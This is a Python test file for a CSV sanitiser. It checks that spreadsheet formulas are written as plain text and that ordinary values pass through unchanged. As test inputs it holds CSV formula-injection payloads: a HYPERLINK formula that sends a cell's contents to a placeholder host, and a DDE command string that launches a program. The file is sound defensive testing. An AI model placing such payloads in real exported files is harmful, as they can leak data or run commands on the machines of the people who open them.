"""Every CSV ontrack writes opens in a spreadsheet as data, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from ontrack.csvsafe import SafeWriter, safe_cell


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_text_a_spreadsheet_would_evaluate_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["María", "555-0101", "+19735550142", "-74.0", -74.0, 0, None, "", "2026-12-04"]
)
def test_ordinary_values_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_row() -> None:
    buffer = io.StringIO()
    writer = SafeWriter(buffer)
    writer.writerow(["name", "lon"])
    writer.writerows([["=cmd|' /C calc'!A0", -74.0]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "lon"],
        ["'=cmd|' /C calc'!A0", "-74.0"],
    ]
